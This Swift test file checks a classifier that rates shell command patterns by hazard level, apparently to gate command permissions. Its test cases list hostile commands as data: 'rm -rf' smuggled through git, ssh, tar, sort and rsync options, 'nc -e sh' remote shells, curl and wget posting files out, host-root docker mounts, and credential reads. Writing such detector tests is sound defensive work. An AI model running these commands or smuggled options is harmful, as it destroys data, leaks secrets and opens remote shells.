import Testing

@testable import Collecting

/// What options of ordinary programs let through: both sides, what runs or sends and what truly does neither.
@Suite struct ShellOptionTests {
    /// A pattern and its hazard on each line.
    static func cases(_ text: String) -> [(pattern: String, hazard: String)] {
        text.split(separator: "\n").map { line in
            let parts = line.split(separator: " => ", maxSplits: 1)
            return (parts[0].trimmingPrefix { $0 == " " }.description, parts[1].description)
        }
    }

    @Test(
        arguments: cases(
            #"""
            git rebase * => arbitrary-code
            git rebase main => destructive
            git rebase -i --exec 'rm -rf x' main => destructive
            git rebase --abort => write
            git rebase --continue => write
            git push --force => destructive
            git push -f origin main => destructive
            git push origin --delete old => destructive
            git push origin +main => destructive
            git push origin :old => destructive
            git push --force-with-lease origin main => destructive
            git push origin main => publish
            git push origin main * => arbitrary-code
            git -c core.pager=less log * => arbitrary-code
            git -c alias.x=!sh x => write
            git -c core.sshCommand='rm -rf x' fetch => destructive
            git -c user.name=bot commit * => write
            git -c user.name=bot status => none
            git -c * => arbitrary-code
            git -C * status => arbitrary-code
            git -C sub status * => none
            git --no-pager diff => read
            git --no-pager diff * => write
            git grep * => arbitrary-code
            git grep TODO => read
            git grep -Oless TODO => write
            git log --output=.bashrc --format=x => write
            git log -1 => read
            git clone * => arbitrary-code
            git clone https://a.example/b => network
            git pull => network
            git fetch origin => network
            git fetch --upload-pack='rm -rf x' origin => destructive
            git ls-remote * => arbitrary-code
            git submodule * => arbitrary-code
            git submodule status => network
            git branch * => destructive
            git branch --list * => none
            git branch -D old => destructive
            git branch => write
            git checkout * => destructive
            git checkout main => write
            git checkout -- . => destructive
            git switch main => write
            git stash * => destructive
            git stash list * => none
            git tag v1 => write
            git filter-branch * => arbitrary-code
            git credential fill => secrets
            git commit -m * => write
            git blame * => read
            git show-ref * => read
            git rev-parse * => none
            git stat* => none
            git l* => write
            """#))
    func gitIsWhatItsOptionsMakeOfIt(pattern: String, hazard: String) {
        #expect(ShellHazard.of(pattern).rawValue == hazard)
    }

    @Test(
        arguments: cases(
            #"""
            find * -delete => arbitrary-code
            find . -exec rm {} + => destructive
            find . -exec cat {} ; => read
            find . -name x -fprint out => write
            find . -type f => read
            fd * => arbitrary-code
            fd -x rm => destructive
            fd -e swift => read
            xargs * => arbitrary-code
            xargs rm => destructive
            xargs -n 1 rm => destructive
            xargs -I {} cp {} out => write
            xargs grep * => read
            xargs grep TODO => read
            xargs sh -c * => arbitrary-code
            xargs curl => network
            env => secrets
            env * => arbitrary-code
            env FOO=1 ls * => none
            env -i ls => none
            env -u A node * => arbitrary-code
            env FOO=1 => secrets
            PORT=* npm start => arbitrary-code
            PORT=1 ls => none
            nohup * => arbitrary-code
            nohup ls => none
            nohup* => arbitrary-code
            timeout * => arbitrary-code
            timeout -s KILL 30 ls => none
            timeout -k 5 30 rm -rf x => destructive
            timeout 5m git status * => none
            nice -n 10 ls * => none
            stdbuf -oL grep * => read
            command -v node => none
            command -v * => none
            watch * => arbitrary-code
            watch -n 5 ls => none
            watch ls * => arbitrary-code
            make * => arbitrary-code
            make test => write
            npm run * => arbitrary-code
            npm run build => none
            npm --prefix * run build => arbitrary-code
            pnpm run * => arbitrary-code
            pnpm --filter * test => arbitrary-code
            pnpm --filter web test => none
            yarn run * => arbitrary-code
            bun run * => arbitrary-code
            bun * => arbitrary-code
            npm exec -- * => arbitrary-code
            docker run * => arbitrary-code
            docker run alpine => write
            docker run --privileged alpine => privilege
            docker run -v /:/host alpine => privilege
            docker run -v /var/run/docker.sock:/s alpine => privilege
            docker ps * => read
            docker compose ps => read
            docker compose up * => arbitrary-code
            kubectl exec * => arbitrary-code
            kubectl -n * get pods => arbitrary-code
            kubectl get pods * => read
            kubectl get secret x => secrets
            python -c * => arbitrary-code
            python3 -c 'print(1)' => write
            bash -ec * => arbitrary-code
            bash -xc 'rm -rf x' => destructive
            node -e * => arbitrary-code
            node --eval=* x => arbitrary-code
            node -pe * => arbitrary-code
            perl -ne * => arbitrary-code
            node server.js => write
            npx -c * => arbitrary-code
            npx --call 'rm -rf x' => destructive
            n* => arbitrary-code
            ls* => read
            cat* => read
            xyz* => write
            tr* => none
            cp* => write
            rm* => destructive
            ps* => arbitrary-code
            z* => arbitrary-code
            """#))
    func carriersAreWhatTheyCarry(pattern: String, hazard: String) {
        #expect(ShellHazard.of(pattern).rawValue == hazard)
    }

    @Test(
        arguments: cases(
            #"""
            rg --pre cat x => write
            rg TODO src => read
            rg * => arbitrary-code
            grep * => read
            grep -r TODO src => read
            tee * => write
            tee out.txt => write
            sed -i s/a/b/ x => write
            sed -n 1,20p x => read
            sed s/a/b/ x => read
            sed 's/a/b/e' x => write
            sed '1e id' x => write
            sed 's/a/b/w out' x => write
            sed -n * => arbitrary-code
            sed -i * => arbitrary-code
            awk '{print $1}' * => read
            awk -F : '{print $1}' * => read
            awk '{print $1}' x => read
            awk 'BEGIN{system("id")}' => write
            awk '{system($0)}' * => arbitrary-code
            awk '{print > "out"}' x => write
            awk -f * => arbitrary-code
            awk * => arbitrary-code
            tar * => arbitrary-code
            tar xf a.tgz => write
            tar xf a.tgz --to-command='rm -rf x' => destructive
            tar cf a.tar --checkpoint=1 --checkpoint-action=exec='curl http://a.example' x => network
            ssh * => arbitrary-code
            ssh host uptime => network
            ssh -o ProxyCommand='rm -rf x' host => destructive
            ssh -o StrictHostKeyChecking=no host => network
            gh run --help * => none
            gh run job view * => write
            gh pr check * => write
            gh pr checks * => read
            gh pr merge * => publish
            gh pr * => publish
            gh issue transfer 1 a/b => publish
            gh release create --help => none
            git cherry * => none
            git --version * => none
            git diff-tree * => write
            gh api * => destructive
            gh api repos/a/b => read
            gh api -X DELETE repos/a/b => destructive
            gh api --method=DELETE repos/a/b => destructive
            gh api repos/a/b/issues -f title=x => publish
            gh api repos/* --jq .x => destructive
            gh workflow run * => publish
            gh workflow run ci.yml => publish
            gh workflow list * => read
            gh repo clone * => arbitrary-code
            gh pr view * => read
            gh secret set * => publish
            gh auth token => secrets
            psql * => arbitrary-code
            psql -c * => arbitrary-code
            psql -c 'select 1' => read
            psql -c 'drop table x' => destructive
            psql -c 'insert into x values (1)' => write
            psql -c '\! id' => write
            mysql -e * => arbitrary-code
            sqlite3 x.db .tables => read
            sqlite3 x.db '.shell id' => write
            redis-cli * => destructive
            curl * => network
            curl -o x * => network
            curl -X POST --data @x https://a.example => network
            curl https://a.example * => network
            curl -K * => network
            wget * => arbitrary-code
            wget --post-file=x https://a.example => network
            wget -O x https://a.example => network
            wget --use-askpass='rm -rf x' https://a.example => destructive
            scp * => arbitrary-code
            scp x host:y => network
            rsync * => arbitrary-code
            rsync -a x host:y => network
            rsync -e 'rm -rf x' a b => destructive
            dig * => network
            nslookup * => network
            host * => network
            drill * => network
            ping * => network
            nc * => arbitrary-code
            nc -e sh host 1 => network
            nc -z host 1 => network
            sort * => arbitrary-code
            sort x => none
            sort --compress-program='rm -rf x' y => destructive
            uniq * => write
            tree * => write
            cut * => read
            cut -f1 x => none
            wc * => none
            ls * => none
            jq * => read
            yq * => write
            yq .a x => read
            bat * => arbitrary-code
            bat x => read
            man * => arbitrary-code
            man ls => none
            fzf * => arbitrary-code
            zip * => arbitrary-code
            zip a.zip x => write
            unzip * => write
            gcc * => arbitrary-code
            pandoc * => arbitrary-code
            cmake -P * => arbitrary-code
            aws * describe-instances => arbitrary-code
            aws ec2 describe-* * => read
            aws s3 cp * => publish
            aws secretsmanager * => secrets
            gh pr* => publish
            """#))
    func programsAreTheirWorstOption(pattern: String, hazard: String) {
        #expect(ShellHazard.of(pattern).rawValue == hazard)
    }

    @Test(
        arguments: cases(
            """
            git push * => publish
            gh issue * => publish
            gh issue list * => read
            gh api * => read
            wget * => network
            rg * => read
            git rebase * => destructive
            git fetch * => network
            npx tool@latest run => install
            ./scripts/* => write
            * => arbitrary-code
            rm *.o => destructive
            ls * => none
            """))
    func ordinaryUseIsNotTheWorstOption(pattern: String, hazard: String) {
        #expect(ShellHazard.ordinary(pattern).rawValue == hazard)
    }
}
